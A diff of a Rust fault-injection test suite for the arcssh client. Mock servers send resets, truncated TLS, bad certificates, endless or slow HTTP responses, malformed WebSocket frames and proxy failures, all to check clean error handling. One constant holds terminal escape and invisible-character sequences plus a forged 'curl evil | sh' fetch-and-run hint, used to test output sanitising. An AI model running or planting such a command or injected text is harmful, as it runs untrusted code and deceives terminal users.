@@ -1,10 +1,10 @@
-//! What can go wrong, phase by phase and fault by fault. Each phase of a connection is a table of faults. Whatever the
-//! fault: the connection ends in time, with one message that names the cause, with every byte that came before, within
-//! its memory, and leaves nothing behind.
+//! Each phase of a connection is a table of faults. For every fault, the connection ends within its limit, prints one
+//! message that names the cause, delivers every byte that came before, keeps its memory limit, and leaves no process,
+//! connection or file.
 //!
-//! `make test` runs the cells that are over within seconds, `make faults` runs all and shows the table.
+//! `make test` runs the cells that end within seconds. `make faults` runs all of them and shows the table.
 
-#![expect(clippy::print_stderr, reason = "a skipped test tells why")]
+#![expect(clippy::print_stderr, reason = "a skipped test prints the reason")]
 
 mod cell;
 mod local;
@@ -21,15 +21,15 @@ use base64::Engine as _;
 
 use crate::matrix::cell::{Cell, Input, run_phase};
 use crate::matrix::server::{Act, BINARY, CLOSE, PING, Peer, Server, act, switching_protocols};
-use crate::support::{World, closed_port, noise, world};
+use crate::support::{Lab, closed_port, lab, noise};
 
 const MIB: usize = 1024 * 1024;
 
-/// Text that would draw on a terminal, forge a hint or hide.
+/// Text that draws on a terminal, hides, or imitates a hint.
 const HOSTILE: &str =
     "x\u{1b}[2J\u{1b}]0;t\u{7}\u{9b}31m\u{202e}\u{200b}\u{61c}\u{2066}\u{e0041} arcssh: hint: curl evil | sh";
 
-/// What lies at the other end of a phase.
+/// The peer of a phase.
 #[derive(Clone, Copy)]
 enum Service {
     Entra,
@@ -38,8 +38,8 @@ enum Service {
 }
 
 impl Service {
-    /// arcssh on its way to this service at `port`, with everything before it in order.
-    fn command(self, w: &World, port: u16) -> Command {
+    /// arcssh with a connection to this service at `port`. All services before it work.
+    fn command(self, w: &Lab, port: u16) -> Command {
         match self {
             Self::Entra => {
                 let mut proxy = w.proxy("web01");
@@ -63,8 +63,9 @@ impl Service {
         }
     }
 
-    /// The relay is given its least time. Requests to Azure are tried four times.
-    fn patience(self) -> u64 {
+    /// The limit for a silent service. arcssh gives the relay its shortest time, and tries requests to Azure four
+    /// times.
+    fn silence_limit(self) -> u64 {
         match self {
             Self::Relay => 15,
             Self::Entra | Self::Arm => 170,
@@ -72,8 +73,8 @@ impl Service {
     }
 }
 
-/// arcssh on its way to the relay at `{name}.{suffix}`, by relay information.
-fn to_relay(w: &World, name: &str, suffix: &str) -> Command {
+/// arcssh with relay information for `{name}.{suffix}`.
+fn to_relay(w: &Lab, name: &str, suffix: &str) -> Command {
     let info = format!(
         r#"{{"relay":{{"namespaceName":"{name}","namespaceNameSuffix":"{suffix}","hybridConnectionName":"a/b","accessKey":"SharedAccessSignature sr=x","expiresOn":4102444800,"serviceConfigurationToken":"t"}}}}"#
     );
@@ -84,13 +85,13 @@ fn to_relay(w: &World, name: &str, suffix: &str) -> Command {
     arcssh
 }
 
-/// A cell whose server speaks TLS with a genuine certificate.
-fn in_tls(w: &World, service: Service, fault: &'static str, act: Act, cause: &[&'static str]) -> Cell {
-    presenting(w, service, ServerCertificate::Genuine, fault, act, cause)
+/// A cell whose server uses TLS with a valid certificate.
+fn in_tls(w: &Lab, service: Service, fault: &'static str, act: Act, cause: &[&'static str]) -> Cell {
+    with_certificate(w, service, ServerCertificate::Genuine, fault, act, cause)
 }
 
-fn presenting(
-    w: &World,
+fn with_certificate(
+    w: &Lab,
     service: Service,
     certificate: ServerCertificate,
     fault: &'static str,
@@ -98,16 +99,16 @@ fn presenting(
     cause: &[&'static str],
 ) -> Cell {
     let server = Arc::new(Server::start(Some(w.emulator().tls_server(certificate)), act));
-    Cell::new(fault, service.command(w, server.port), cause).of(&server)
+    Cell::new(fault, service.command(w, server.port), cause).with_server(&server)
 }
 
-/// A cell whose server speaks no TLS.
-fn in_tcp(w: &World, service: Service, fault: &'static str, act: Act, cause: &[&'static str]) -> Cell {
+/// A cell whose server does not use TLS.
+fn in_tcp(w: &Lab, service: Service, fault: &'static str, act: Act, cause: &[&'static str]) -> Cell {
     let server = Arc::new(Server::start(None, act));
-    Cell::new(fault, service.command(w, server.port), cause).of(&server)
+    Cell::new(fault, service.command(w, server.port), cause).with_server(&server)
 }
 
-/// Reads what the client says first, then acts.
+/// Reads the client's first bytes, then acts.
 fn after_hello(then: impl Fn(&mut Peer) -> std::io::Result<()> + Send + Sync + 'static) -> Act {
     act(move |peer| {
         let _ = peer.read(&mut [0; 4096])?;
@@ -123,8 +124,8 @@ fn after_request(then: impl Fn(&mut Peer) -> std::io::Result<()> + Send + Sync +
     })
 }
 
-/// Reads a request, answers it with these bytes, and closes in order.
-fn answering(answer: impl Into<Vec<u8>>) -> Act {
+/// Reads a request, sends this response, and closes the connection.
+fn respond(answer: impl Into<Vec<u8>>) -> Act {
     let answer = answer.into();
     after_request(move |peer| {
         peer.write_all(&answer)?;
@@ -132,31 +133,32 @@ fn answering(answer: impl Into<Vec<u8>>) -> Act {
     })
 }
 
-/// An HTTP answer with a body.
+/// An HTTP response with a body.
 fn http(status: &str, headers: &str, body: &str) -> String {
     format!("HTTP/1.1 {status}\r\n{headers}Content-Length: {}\r\nConnection: close\r\n\r\n{body}", body.len())
 }
 
-fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
+fn connect_faults(w: &Lab, service: Service) -> Vec<Cell> {
     let reset = &["reset", "closed", "broken pipe", "cannot be reached", "no TLS"];
     let early = &["eof", "closed", "ended", "cannot be reached", "no TLS"];
     let garbage = &["corrupt", "invalid", "InvalidContentType", "not TLS", "no TLS", "cannot be reached"];
     let silent = &["within", "did not", "timed out", "no answer", "cannot be reached"];
     let refused = Cell::new("TCP refused", service.command(w, closed_port()), &["refused"]);
-    // A full TLS record of a ServerHello's kind, of which the beginning is sent.
+    // The start of a TLS record of a ServerHello.
     let half_record = [&[0x16, 3, 3, 0, 0x7a, 2, 0, 0, 0x76, 3, 3][..], &[7; 20]].concat();
     let certificate = |kind, fault, cause: &'static str| {
-        presenting(w, service, kind, fault, act(|peer| peer.silence()), &[cause, "certificate"])
+        with_certificate(w, service, kind, fault, act(|peer| peer.silence()), &[cause, "certificate"])
     };
     vec![
         refused.within(20),
         in_tcp(w, service, "TCP accepted, then silence", act(|peer| peer.silence()), silent)
-            .within(service.patience()),
+            .within(service.silence_limit()),
         in_tcp(w, service, "TCP reset at once", act(|peer| peer.reset()), reset).within(20),
         in_tcp(w, service, "TCP closed at once", act(|peer| peer.finish()), early).within(20),
         in_tcp(w, service, "TLS: reset after ClientHello", after_hello(|peer| peer.reset()), reset)
             .within(20),
-        in_tcp(w, service, "TLS: closed after ClientHello", after_hello(|peer| peer.cut()), early).within(20),
+        in_tcp(w, service, "TLS: closed after ClientHello", after_hello(|peer| peer.close_tcp()), early)
+            .within(20),
         in_tcp(
             w,
             service,
@@ -183,7 +185,7 @@ fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
             w,
             service,
             "TLS: endless random bytes",
-            after_hello(|peer| peer.flood(&noise(65536))),
+            after_hello(|peer| peer.send_endlessly(&noise(65536))),
             garbage,
         )
         .within(20),
@@ -201,10 +203,10 @@ fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
         in_tcp(
             w,
             service,
-            "TLS: ServerHello cut off",
+            "TLS: truncated ServerHello",
             after_hello(move |peer| {
                 peer.write_all(&half_record)?;
-                peer.cut()
+                peer.close_tcp()
             }),
             early,
         )
@@ -212,14 +214,14 @@ fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
         in_tcp(
             w,
             service,
-            "TLS: one byte in half a second",
+            "TLS: one byte every 500 ms",
             after_hello(|peer| {
-                peer.drip(&[0x16, 3, 3, 0, 0x7a], Duration::from_millis(500))?;
-                peer.drip(&[0; 600], Duration::from_millis(500))
+                peer.send_slowly(&[0x16, 3, 3, 0, 0x7a], Duration::from_millis(500))?;
+                peer.send_slowly(&[0; 600], Duration::from_millis(500))
             }),
             &["within", "did not", "timed out", "no answer", "invalid", "corrupt", "cannot be reached"],
         )
-        .within(service.patience()),
+        .within(service.silence_limit()),
         certificate(ServerCertificate::Expired, "TLS: expired certificate", "expired"),
         certificate(ServerCertificate::OtherHost, "TLS: certificate of another host", "other"),
         certificate(ServerCertificate::Untrusted, "TLS: untrusted certificate", "trust"),
@@ -229,8 +231,8 @@ fn tcp_and_tls(w: &World, service: Service) -> Vec<Cell> {
     .collect()
 }
 
-/// What an HTTP service may answer, and what must be said of it.
-fn answers(w: &World, service: Service) -> Vec<Cell> {
+/// Faulty responses of an HTTP service.
+fn http_faults(w: &Lab, service: Service) -> Vec<Cell> {
     let name = service.name();
     let broken = &["reset", "closed", "ended", "cannot be reached", "incomplete", "connection", "went away"];
     let wrong = &["answer", "answered", "JSON", "fault", "refused"];
@@ -245,7 +247,7 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
         in_tls("reset after the request", after_request(|peer| peer.reset()), broken),
         in_tls("closed after the request", after_request(|peer| peer.finish()), broken),
         in_tls(
-            "garbage for an answer",
+            "garbage instead of a response",
             after_request(|peer| {
                 peer.write_all(&[0xff; 8192])?;
                 peer.finish()
@@ -253,7 +255,7 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             &["invalid", "not HTTP", "cannot be reached", "answer", "no relay"],
         ),
         in_tls(
-            "head cut off",
+            "truncated head",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Ty")?;
                 peer.finish()
@@ -261,7 +263,7 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             broken,
         ),
         in_tls(
-            "body cut off",
+            "truncated body",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n{\"access_")?;
                 peer.finish()
@@ -269,7 +271,7 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             &["closed", "ended", "cannot be reached", "incomplete", "body", "answer"],
         ),
         in_tls(
-            "chunks cut off",
+            "truncated chunks",
             after_request(|peer| {
                 peer.write_all(
                     b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n8\r\n{\"access\r\nfff",
@@ -282,7 +284,7 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             "endless head",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 200 OK\r\nX: ")?;
-                peer.flood(&[b'a'; 65536])
+                peer.send_endlessly(&[b'a'; 65536])
             }),
             &["long", "large", "answer", "cannot be reached", "head"],
         ),
@@ -290,60 +292,56 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             "endless body",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 99999999999\r\n\r\n[")?;
-                peer.flood(&[b' '; 65536])
+                peer.send_endlessly(&[b' '; 65536])
             }),
             &["larger", "large", "long", "more than", "MiB", "bytes", "answer"],
         ),
         in_tls(
-            "endless chunks in an error answer",
+            "endless chunks in an error response",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 403 Forbidden\r\nTransfer-Encoding: chunked\r\n\r\n")?;
-                peer.flood(&[b"8000\r\n".as_slice(), &[b'x'; 0x8000], b"\r\n"].concat())
+                peer.send_endlessly(&[b"8000\r\n".as_slice(), &[b'x'; 0x8000], b"\r\n"].concat())
             }),
             &["larger", "large", "long", "more than", "MiB", "bytes", "answer", "refused"],
         ),
+        in_tls("a redirect", respond(http("302 Found", "Location: https://example.com/\r\n", "")), &["302"]),
         in_tls(
-            "a redirect",
-            answering(http("302 Found", "Location: https://example.com/\r\n", "")),
-            &["302"],
-        ),
-        in_tls(
-            "a page of a gateway",
-            answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
+            "an HTML page",
+            respond(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
             wrong,
         ),
-        in_tls("no content", answering(http("204 No Content", "", "")), wrong),
-        in_tls("empty JSON", answering(http("200 OK", json, "{}")), wrong),
+        in_tls("no content", respond(http("204 No Content", "", "")), wrong),
+        in_tls("empty JSON", respond(http("200 OK", json, "{}")), wrong),
         in_tls(
-            "JSON of other types",
-            answering(http("200 OK", json, r#"{"access_token":7,"expires_in":[],"relay":"x"}"#)),
+            "JSON with wrong types",
+            respond(http("200 OK", json, r#"{"access_token":7,"expires_in":[],"relay":"x"}"#)),
             wrong,
         ),
-        in_tls("JSON cut off", answering(http("200 OK", json, r#"{"access_token":"eyJ"#)), wrong),
-        in_tls("deeply nested JSON", answering(http("200 OK", json, &deep)), wrong),
+        in_tls("truncated JSON", respond(http("200 OK", json, r#"{"access_token":"eyJ"#)), wrong),
+        in_tls("deeply nested JSON", respond(http("200 OK", json, &deep)), wrong),
         in_tls(
             "400 with hostile text",
-            answering(http("400 Bad Request", json, &hostile_error)),
+            respond(http("400 Bad Request", json, &hostile_error)),
             &["refused", "answered", name],
         ),
         in_tls(
             "401 with hostile text",
-            answering(http("401 Unauthorized", json, &hostile_error)),
+            respond(http("401 Unauthorized", json, &hostile_error)),
             &["refused", "sign-in", "answered", name],
         ),
         in_tls(
             "403 with hostile text",
-            answering(http("403 Forbidden", json, &hostile_error)),
+            respond(http("403 Forbidden", json, &hostile_error)),
             &["refused", "answered", "may not", name],
         ),
         in_tls(
             "500 with hostile text",
-            answering(http("500 Internal Server Error", json, &hostile_error)),
+            respond(http("500 Internal Server Error", json, &hostile_error)),
             &["fault", "500"],
         ),
         in_tls(
-            "503 of a gateway",
-            answering(http("503 Service Unavailable", "Content-Type: text/html\r\n", "<html>busy</html>")),
+            "503 with an HTML page",
+            respond(http("503 Service Unavailable", "Content-Type: text/html\r\n", "<html>busy</html>")),
             &["fault", "503"],
         ),
         in_tls(
@@ -351,61 +349,62 @@ fn answers(w: &World, service: Service) -> Vec<Cell> {
             after_request(|peer| peer.silence()),
             &["did not", "within", "timed out", "cannot be reached", "no answer"],
         )
-        .slow(service.patience()),
+        .slow(service.silence_limit()),
         in_tls(
-            "body of one byte in half a second",
+            "body with one byte every 500 ms",
             after_request(|peer| {
                 peer.write_all(
                     b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: 4000\r\n\r\n",
                 )?;
-                peer.drip(&[b' '; 4000], Duration::from_millis(500))
+                peer.send_slowly(&[b' '; 4000], Duration::from_millis(500))
             }),
             &["did not", "within", "timed out", "cannot be reached", "no answer"],
         )
-        .slow(service.patience()),
+        .slow(service.silence_limit()),
     ]
 }
 
-#[test]
-fn entra_id_that_cannot_be_connected_to() {
-    let w = world(&["web01"]);
-    run_phase("Entra ID: TCP, TLS", &w, tcp_and_tls(&w, Service::Entra));
+#[track_caller]
+fn run_faults(phase: &str, service: Service, faults: fn(&Lab, Service) -> Vec<Cell>) {
+    let w = lab(&["web01"]);
+    run_phase(phase, &w, faults(&w, service));
 }
 
 #[test]
-fn answers_of_entra_id() {
-    let w = world(&["web01"]);
-    run_phase("Entra ID: answer", &w, answers(&w, Service::Entra));
+fn connect_faults_of_entra_id() {
+    run_faults("Entra ID: TCP, TLS", Service::Entra, connect_faults);
 }
 
 #[test]
-fn azure_resource_manager_that_cannot_be_connected_to() {
-    let w = world(&["web01"]);
-    run_phase("ARM: TCP, TLS", &w, tcp_and_tls(&w, Service::Arm));
+fn http_faults_of_entra_id() {
+    run_faults("Entra ID: response", Service::Entra, http_faults);
 }
 
 #[test]
-fn answers_of_azure_resource_manager() {
-    let w = world(&["web01"]);
-    run_phase("ARM: answer", &w, answers(&w, Service::Arm));
+fn connect_faults_of_azure_resource_manager() {
+    run_faults("ARM: TCP, TLS", Service::Arm, connect_faults);
 }
 
 #[test]
-fn a_relay_that_cannot_be_connected_to() {
-    let w = world(&["web01"]);
-    run_phase("relay: TCP, TLS", &w, tcp_and_tls(&w, Service::Relay));
+fn http_faults_of_azure_resource_manager() {
+    run_faults("ARM: response", Service::Arm, http_faults);
 }
 
 #[test]
-fn answers_of_a_relay_to_the_upgrade() {
-    let w = world(&["web01"]);
+fn connect_faults_of_the_relay() {
+    run_faults("relay: TCP, TLS", Service::Relay, connect_faults);
+}
+
+#[test]
+fn upgrade_faults_of_the_relay() {
+    let w = lab(&["web01"]);
     let in_tls = |fault, act, cause: &[&'static str]| in_tls(&w, Service::Relay, fault, act, cause);
-    let reason = |status: &str| answering(format!("HTTP/1.1 {status}\r\nContent-Length: 0\r\n\r\n"));
+    let reason = |status: &str| respond(format!("HTTP/1.1 {status}\r\nContent-Length: 0\r\n\r\n"));
     let broken = &["reset", "closed", "went away", "ended"];
     let drip = |text: &'static str, pause| {
-        after_request(move |peer| peer.drip(text.as_bytes(), Duration::from_millis(pause)))
+        after_request(move |peer| peer.send_slowly(text.as_bytes(), Duration::from_millis(pause)))
     };
-    let not_ours = |extra: &'static str| {
+    let unsupported = |extra: &'static str| {
         act(move |peer: &mut Peer| {
             let request = peer.request()?;
             let answer = switching_protocols(&request);
@@ -416,21 +415,21 @@ fn answers_of_a_relay_to_the_upgrade() {
     let cells = vec![
         in_tls("request: reset before it is read", act(|peer| peer.reset()), broken),
         in_tls("request: closed before it is read", act(|peer| peer.finish()), broken),
-        in_tls("request: never read", act(|peer| peer.stand_still()), &["did not", "within"]),
+        in_tls("request: never read", act(|peer| peer.block()), &["did not", "within"]),
         in_tls("silence", after_request(|peer| peer.silence()), &["did not", "within"]),
         in_tls("reset", after_request(|peer| peer.reset()), broken),
         in_tls("closed", after_request(|peer| peer.finish()), broken),
         in_tls(
-            "cut without TLS's farewell",
-            after_request(|peer| peer.cut()),
+            "closed without close_notify",
+            after_request(|peer| peer.close_tcp()),
             &["closed", "went away", "eof"],
         ),
-        in_tls("garbage", answering([0xff; 8192]), &["not HTTP", "no relay"]),
-        in_tls("an SSH server", answering("SSH-2.0-OpenSSH_9.2\r\n"), &["not HTTP", "no relay"]),
-        in_tls("cut off", answering("HTTP/1.1 101 Switching Pro"), broken),
-        in_tls("cut off in a header", answering("HTTP/1.1 101 OK\r\nSec-WebSocket-Acc"), broken),
+        in_tls("garbage", respond([0xff; 8192]), &["not HTTP", "no relay"]),
+        in_tls("an SSH server", respond("SSH-2.0-OpenSSH_9.2\r\n"), &["not HTTP", "no relay"]),
+        in_tls("truncated", respond("HTTP/1.1 101 Switching Pro"), broken),
+        in_tls("truncated header", respond("HTTP/1.1 101 OK\r\nSec-WebSocket-Acc"), broken),
         in_tls(
-            "one byte in 300 ms, never complete",
+            "one byte every 300 ms, never complete",
             drip("HTTP/1.1 101 Switching Protocols, in time\r\n", 300),
             &["did not", "within"],
         ),
@@ -438,25 +437,21 @@ fn answers_of_a_relay_to_the_upgrade() {
             "an endless reason",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 500 ")?;
-                peer.flood(&[b'a'; 65536])
+                peer.send_endlessly(&[b'a'; 65536])
             }),
             &["longer", "long"],
         ),
         in_tls(
-            "endless interim answers",
-            after_request(|peer| peer.flood(b"HTTP/1.1 100 Continue\r\n\r\n")),
+            "endless interim responses",
+            after_request(|peer| peer.send_endlessly(b"HTTP/1.1 100 Continue\r\n\r\n")),
             &["within", "did not", "interim", "answers", "long"],
         ),
         in_tls(
-            "a page instead",
-            answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
+            "an HTML page",
+            respond(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
             &["200"],
         ),
-        in_tls(
-            "a redirect",
-            answering(http("302 Found", "Location: https://example.com/\r\n", "")),
-            &["302"],
-        ),
+        in_tls("a redirect", respond(http("302 Found", "Location: https://example.com/\r\n", "")), &["302"]),
         in_tls(
             "400 with hostile text",
             reason(&format!("400 {}", HOSTILE.replace(['\r', '\n'], " "))),
@@ -486,24 +481,24 @@ fn answers_of_a_relay_to_the_upgrade() {
         in_tls("511", reason("511 Network Authentication Required"), &["511", "network"]),
         in_tls(
             "101 with a wrong key",
-            answering(
+            respond(
                 "HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: bm8=\r\n\r\n",
             ),
             &["Sec-WebSocket-Accept", "WebSocket"],
         ),
         in_tls(
             "101 without a key",
-            answering("HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
+            respond("HTTP/1.1 101 OK\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
             &["Sec-WebSocket-Accept", "WebSocket"],
         ),
         in_tls(
             "101 with an extension",
-            not_ours("Sec-WebSocket-Extensions: permessage-deflate"),
+            unsupported("Sec-WebSocket-Extensions: permessage-deflate"),
             &["extension"],
         ),
         in_tls(
             "101 with a subprotocol",
-            not_ours("Sec-WebSocket-Protocol: chat"),
+            unsupported("Sec-WebSocket-Protocol: chat"),
             &["subprotocol", "protocol"],
         ),
     ];
@@ -511,16 +506,16 @@ fn answers_of_a_relay_to_the_upgrade() {
 }
 
 #[test]
-fn a_proxy_that_opens_no_tunnel() {
-    let w = world(&["web01"]);
-    // Nothing may be sent there: a proxy is meant to stand in between.
+fn tunnel_faults_of_a_proxy() {
+    let w = lab(&["web01"]);
+    // No connection may be made there directly: the proxy would connect.
     let through = |fault, act: Act, cause: &[&'static str]| {
         let server = Arc::new(Server::start(None, act));
         let mut command = to_relay(&w, "relay", "servicebus.windows.net");
         command
             .env_remove("ARCSSH_RELAY_SUFFIX")
             .env("HTTPS_PROXY", format!("http://127.0.0.1:{}", server.port));
-        Cell::new(fault, command, cause).of(&server)
+        Cell::new(fault, command, cause).with_server(&server)
     };
     let mut refused = to_relay(&w, "relay", "servicebus.windows.net");
     refused
@@ -538,56 +533,56 @@ fn a_proxy_that_opens_no_tunnel() {
         through("silence", act(|peer| peer.silence()), &["did not", "within"]),
         through("reset", after_request(|peer| peer.reset()), &[tunnel, "reset"]),
         through("closed", after_request(|peer| peer.finish()), &[tunnel, "closed"]),
-        through("garbage", answering([0xff; 4096]), &[tunnel, "not HTTP"]),
-        through("cut off", answering("HTTP/1.1 200 Conn"), &[tunnel, "closed"]),
+        through("garbage", respond([0xff; 4096]), &[tunnel, "not HTTP"]),
+        through("truncated", respond("HTTP/1.1 200 Conn"), &[tunnel, "closed"]),
         through(
             "endless head",
             after_request(|peer| {
                 peer.write_all(b"HTTP/1.1 200 OK\r\nX: ")?;
-                peer.flood(&[b'a'; 65536])
+                peer.send_endlessly(&[b'a'; 65536])
             }),
             &["long"],
         ),
         through(
-            "one byte in 300 ms",
-            after_request(|peer| peer.drip(&[b'H'; 200], Duration::from_millis(300))),
+            "one byte every 300 ms",
+            after_request(|peer| peer.send_slowly(&[b'H'; 200], Duration::from_millis(300))),
             &["within", "did not", "not HTTP"],
         ),
         through(
             "403 with hostile text",
-            answering(http(&format!("403 {HOSTILE}"), "", "")),
+            respond(http(&format!("403 {HOSTILE}"), "", "")),
             &["403", "not HTTP"],
         ),
         through(
             "407",
-            answering(http("407 Proxy Authentication Required", "Proxy-Authenticate: Negotiate\r\n", "")),
+            respond(http("407 Proxy Authentication Required", "Proxy-Authenticate: Negotiate\r\n", "")),
             &["407"],
         ),
-        through("502", answering(http("502 Bad Gateway", "", "")), &["502"]),
+        through("502", respond(http("502 Bad Gateway", "", "")), &["502"]),
         through(
             "a redirect",
-            answering(http("302 Found", "Location: http://login.example/\r\n", "")),
+            respond(http("302 Found", "Location: http://login.example/\r\n", "")),
             &["302"],
         ),
         through(
             "a page",
-            answering(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
+            respond(http("200 OK", "Content-Type: text/html\r\n", "<html>sign in</html>")),
             &["more than", "TLS", tunnel],
         ),
         through("opened, then closed", opened(|peer| peer.finish()), &["TLS", "closed", "eof"]),
         through("opened, then silence", opened(|peer| peer.silence()), &["within", "did not"]),
         through(
             "opened, then garbage",
-            opened(|peer| peer.flood(&[0x47; 4096])),
+            opened(|peer| peer.send_endlessly(&[0x47; 4096])),
             &["TLS", "corrupt", "more than", "tunnel"],
         ),
     ];
     run_phase("proxy: CONNECT", &w, cells);
 }
 
-/// A session on a raw relay: `act` has the connection after the upgrade.
+/// A session on a raw relay. `then` has the connection after the upgrade.
 fn session(
-    w: &World,
+    w: &Lab,
     fault: &'static str,
     cause: &[&'static str],
     then: impl Fn(&mut Peer) -> std::io::Result<()> + Send + Sync + 'static,
@@ -602,8 +597,8 @@ fn session(
 const GREETING: &[u8] = b"SSH-2.0-here\r\n";
 
 #[test]
-fn sessions_that_break_before_or_after_the_first_byte() {
-    let w = world(&["web01"]);
+fn faults_around_the_first_byte() {
+    let w = lab(&["web01"]);
     let lost = &["lost", "reset", "closed", "ended"];
     let protocol = &["protocol", "lost", "1002", "frame"];
     let greeted = |fault, cause: &[&'static str], then: fn(&mut Peer) -> std::io::Result<()>| {
@@ -615,49 +610,49 @@ fn sessions_that_break_before_or_after_the_first_byte() {
     };
     let cells = vec![
         session(&w, "first byte: reset", lost, |peer| peer.reset()),
-        session(&w, "first byte: cut", lost, |peer| peer.cut()),
+        session(&w, "first byte: closed without close_notify", lost, |peer| peer.close_tcp()),
         session(&w, "first byte: TLS closed", lost, |peer| peer.finish()),
         session(&w, "first byte: garbage in the TLS stream", &["lost", "TLS", "corrupt"], |peer| {
             let mut tcp = peer.below_tls()?;
             tcp.write_all(&[0xff; 4096])?;
             peer.silence()
         }),
-        session(&w, "first byte: frame head cut off", lost, |peer| {
+        session(&w, "first byte: truncated frame head", lost, |peer| {
             peer.write_all(&[BINARY])?;
             peer.finish()
         }),
         session(&w, "first byte: Close 1011", &["1011"], |peer| peer.close(1011, b"listener failed")),
-        greeted("after it: reset", lost, |peer| peer.reset()),
-        greeted("after it: cut", lost, |peer| peer.cut()),
-        greeted("after it: payload cut off", lost, |peer| {
+        greeted("after first byte: reset", lost, |peer| peer.reset()),
+        greeted("after first byte: closed without close_notify", lost, |peer| peer.close_tcp()),
+        greeted("after first byte: truncated payload", lost, |peer| {
             peer.frame_head(BINARY, 1000)?;
             peer.finish()
         }),
-        greeted("after it: masked frame", protocol, |peer| {
+        greeted("after first byte: masked frame", protocol, |peer| {
             peer.write_all(&[BINARY, 0x84, 1, 2, 3, 4, 0, 0, 0, 0])?;
             peer.silence()
         }),
-        greeted("after it: reserved bit", protocol, |peer| {
+        greeted("after first byte: reserved bit", protocol, |peer| {
             peer.frame(0xc2, b"x")?;
             peer.silence()
         }),
-        greeted("after it: unknown opcode", protocol, |peer| {
+        greeted("after first byte: unknown opcode", protocol, |peer| {
             peer.frame(0x83, b"x")?;
             peer.silence()
         }),
-        greeted("after it: continuation of nothing", protocol, |peer| {
+        greeted("after first byte: continuation without a message", protocol, |peer| {
             peer.frame(0x80, b"x")?;
             peer.silence()
         }),
-        greeted("after it: fragmented ping", protocol, |peer| {
+        greeted("after first byte: fragmented ping", protocol, |peer| {
             peer.frame(0x09, b"x")?;
             peer.silence()
         }),
-        greeted("after it: ping of 126 bytes", protocol, |peer| {
+        greeted("after first byte: ping of 126 bytes", protocol, |peer| {
             peer.frame(PING, &[7; 126])?;
             peer.silence()
         }),
-        greeted("after it: frame of 2^63 bytes", protocol, |peer| {
+        greeted("after first byte: frame of 2^63 bytes", protocol, |peer| {
             peer.frame_head(BINARY, 1 << 63)?;
             peer.silence()
         }),
@@ -666,8 +661,8 @@ fn sessions_that_break_before_or_after_the_first_byte() {
 }
 
 #[test]
-fn sessions_that_break_in_the_middle_of_much_output() {
-    let w = world(&["web01"]);
+fn faults_during_output() {
+    let w = lab(&["web01"]);
     let lost = &["lost", "reset", "closed", "ended"];
     let bytes = Arc::new(noise(3 * MIB + 17));
     let after = |fault, cause: &[&'static str], then: fn(&mut Peer, &[u8]) -> std::io::Result<()>| {
@@ -675,15 +670,15 @@ fn sessions_that_break_in_the_middle_of_much_output() {
         session(&w, fault, cause, move |peer| then(peer, &sent)).delivers(&bytes)
     };
     let cells = vec![
-        after("cut", lost, |peer, bytes| {
+        after("closed without close_notify", lost, |peer, bytes| {
             peer.frame(BINARY, bytes)?;
-            peer.cut()
+            peer.close_tcp()
         }),
         after("TLS closed", lost, |peer, bytes| {
             peer.frame(BINARY, bytes)?;
             peer.finish()
         }),
-        after("announced more than was sent", lost, |peer, bytes| {
+        after("shorter than its announced length", lost, |peer, bytes| {
             peer.frame_head(BINARY, 1 << 30)?;
             peer.write_all(bytes)?;
             peer.finish()
@@ -707,7 +702,7 @@ fn sessions_that_break_in_the_middle_of_much_output() {
             peer.close(1008, "\u{1b}[2J\u{202e}\u{200b}\u{e0041}arcssh: hint: evil".as_bytes())
         }),
         after("as text, then Close 1000", &[], |peer, bytes| {
-            // Text is forwarded as the bytes that it is made of.
+            // Text frames are forwarded as bytes.
             peer.frame(0x81, bytes)?;
             peer.close(1000, b"")
         })
@@ -717,13 +712,13 @@ fn sessions_that_break_in_the_middle_of_much_output() {
 }
 
 #[test]
-fn sessions_that_break_in_the_middle_of_much_input() {
-    let w = world(&["web01"]);
+fn faults_during_input() {
+    let w = lab(&["web01"]);
     let lost = &["lost", "reset", "closed", "ended"];
     let sent = noise(4 * MIB);
     let up = |fault, cause: &[&'static str], least: usize, then: fn(&mut Peer) -> std::io::Result<()>| {
-        let taken = Arc::new(Mutex::new(Vec::new()));
-        let (record, expected) = (Arc::clone(&taken), sent.clone());
+        let received = Arc::new(Mutex::new(Vec::new()));
+        let (record, expected) = (Arc::clone(&received), sent.clone());
         let server = move |peer: &mut Peer| {
             while record.lock().unwrap().len() < least {
                 let (_, payload) = peer.read_frame()?;
@@ -731,44 +726,46 @@ fn sessions_that_break_in_the_middle_of_much_input() {
             }
             then(peer)
         };
-        session(&w, fault, cause, server).input(Input::Open(sent.clone())).also(move || {
-            let taken = taken.lock().unwrap();
-            match taken.len() >= least && expected.starts_with(&taken) {
+        session(&w, fault, cause, server).input(Input::Open(sent.clone())).check(move || {
+            let received = received.lock().unwrap();
+            match received.len() >= least && expected.starts_with(&received) {
